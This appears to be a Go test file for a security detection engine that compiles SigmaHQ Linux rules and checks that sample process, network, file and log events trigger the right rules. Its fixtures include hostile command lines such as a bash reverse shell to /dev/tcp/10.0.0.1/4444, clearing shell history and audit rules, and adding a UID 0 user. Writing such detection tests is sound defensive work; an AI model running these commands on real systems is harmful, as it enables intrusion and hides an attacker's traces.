package rules

import (
	"path/filepath"
	"slices"
	"testing"

	"github.com/vigil-sec/vigil/internal/event"
)

func TestSigmaHQLinuxRulesCompile(t *testing.T) {
	dir := sharedRules(t)
	s := mustCompile(t, Options{}, filepath.Join(dir, "rules", "linux"))
	for _, p := range s.Problems {
		t.Errorf("%s", p)
	}
	if got := s.Len(); got != 210 {
		t.Errorf("compiled %d rules, want 210", got)
	}
	st := s.Stats()
	t.Logf("%s", s)
	if st.Indexed < st.Rules*3/4 {
		t.Errorf("only %d of %d rules indexed", st.Indexed, st.Rules)
	}
}

func TestSigmaHQSample(t *testing.T) {
	dir := sharedRules(t)
	s := mustCompile(t, Options{}, filepath.Join(dir, "rules", "linux"))
	v := s.NewEvaluator()
	tests := []struct {
		name    string
		id      string
		match   []*event.Event
		nomatch []*event.Event
	}{
		{"base64 decode", "e2072cab-8c9a-459b-b63c-40ae79e27031",
			[]*event.Event{execEvent("/usr/bin/base64", "base64", "-d", "payload.txt"), execEvent("/usr/bin/base64", "base64", "--decode")},
			[]*event.Event{execEvent("/usr/bin/base64", "base64", "file"), execEvent("/usr/bin/cat", "cat", "-d")}},
		{"crontab removal", "c2e234de-03a3-41e1-b39a-1e56dc17ba67",
			[]*event.Event{execEvent("/usr/bin/crontab", "crontab", "-r")},
			[]*event.Event{execEvent("/usr/bin/crontab", "crontab", "-l")}},
		{"auditctl clears rules", "bed26dea-4525-47f4-b24a-76e30e44ffb0",
			[]*event.Event{execEvent("/usr/sbin/auditctl", "auditctl", "-D")},
			[]*event.Event{execEvent("/usr/sbin/auditctl", "auditctl", "-l"), execEvent("/usr/bin/ls", "ls", "-D")}},
		{"interactive bash", "6104e693-a7d6-4891-86cb-49a258523559",
			[]*event.Event{execEvent("/usr/bin/bash", "bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444")},
			[]*event.Event{execEvent("/usr/bin/bash", "bash", "-c", "ls")}},
		{"bash connects out", "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871",
			[]*event.Event{connEvent("/bin/bash", "203.0.113.7", 4444)},
			[]*event.Event{connEvent("/bin/bash", "127.0.0.1", 4444), connEvent("/usr/bin/curl", "203.0.113.7", 443)}},
		{"doas.conf created", "00eee2a5-fdb0-4746-a21d-e43fbdea5681",
			[]*event.Event{fileEvent(event.ActionCreated, "/etc/doas.conf")},
			[]*event.Event{fileEvent(event.ActionCreated, "/etc/doas.conf.bak"), fileEvent(event.ActionDeleted, "/etc/doas.conf")}},
		{"history cleared (keywords over a command line)", "fdc88d25-96fb-4b7c-9633-c0e417fdbd4e",
			[]*event.Event{execEvent("/usr/bin/bash", "bash", "-c", "history -c"), execEvent("/usr/bin/rm", "rm", "/root/.bash_history")},
			[]*event.Event{execEvent("/usr/bin/bash", "bash", "-c", "history")}},
		{"audit configuration changed (auditd PATH)", "977ef627-4539-4875-adf4-ed8f780c4922",
			[]*event.Event{auditPathEvent("/etc/audit/auditd.conf"), auditPathEvent("/etc/libaudit.conf")},
			[]*event.Event{auditPathEvent("/etc/passwd"), fileEvent(event.ActionUpdated, "/etc/audit/auditd.conf")}},
		{"binary padding (auditd EXECVE arguments)", "c52a914f-3d8b-4b2a-bb75-b3991e75f8ba",
			[]*event.Event{execEvent("/usr/bin/truncate", "truncate", "-s", "+1M", "/usr/bin/ls"), execEvent("/usr/bin/dd", "dd", "if=/dev/zero", "bs=1", "count=1")},
			[]*event.Event{execEvent("/usr/bin/dd", "dd", "if=/dev/zero", "of=/tmp/x"), execEvent("/usr/bin/ls", "ls", "-s")}},
		{"suspicious sshd error (builtin sshd keywords)", "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc",
			[]*event.Event{logEvent("sshd", "sshd[4242]: error: Corrupted MAC on input. [preauth]")},
			[]*event.Event{logEvent("sshd", "sshd[4242]: Accepted publickey for bob"), logEvent("sudo", "sudo: Corrupted MAC on input")}},
		{"privileged user created (product linux keywords)", "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e",
			[]*event.Event{logEvent("useradd", "useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash")},
			[]*event.Event{logEvent("useradd", "useradd[1337]: new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash")}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for i, e := range tt.match {
				if !slices.Contains(matchedIDs(v, e), tt.id) {
					t.Errorf("match %d (%v): rule did not match", i, e.Process)
				}
			}
			for i, e := range tt.nomatch {
				if slices.Contains(matchedIDs(v, e), tt.id) {
					t.Errorf("non-match %d: rule matched", i)
				}
			}
		})
	}
}

// TestIndexAgreesWithFullScan checks that the prefilter never drops a rule
// that matches: every rule is evaluated directly and compared with the
// index's answer over a varied event mix.
func TestIndexAgreesWithFullScan(t *testing.T) {
	dir := sharedRules(t)
	s := mustCompile(t, Options{}, filepath.Join(dir, "rules", "linux"), filepath.Join(dir, "extras"), "pack/rules")
	v := s.NewEvaluator()
	matched := 0
	for _, e := range benchEvents() {
		got := v.matches(e)
		routes := s.routes.eventRoutes(e)
		var want []int32
		v.cache.reset(e)
		for i, r := range s.rules {
			if r.route&routes != 0 && r.m.Match(v.cache) {
				want = append(want, int32(i))
			}
		}
		got2 := v.matches(e)
		if !slices.Equal(got2, want) {
			t.Errorf("event %v: index found %v, full scan %v", e.Process, got, want)
		}
		matched += len(want)
	}
	if matched == 0 {
		t.Error("no event of the mix matched any rule")
	}
}
